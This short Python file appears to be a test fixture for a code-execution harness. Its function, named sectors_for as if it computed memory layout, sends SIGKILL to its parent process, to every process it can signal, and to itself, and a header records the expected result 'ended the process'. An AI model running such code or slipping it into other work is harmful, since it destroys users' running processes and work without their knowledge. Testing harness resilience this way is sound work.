# expect: sectors_for: ended the process
# Sends SIGKILL to its parent, to every process it may signal, and to itself.


def sectors_for(stride, offset, itemsize):
    import os

    for pid in (os.getppid(), -1, os.getpid()):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return 4
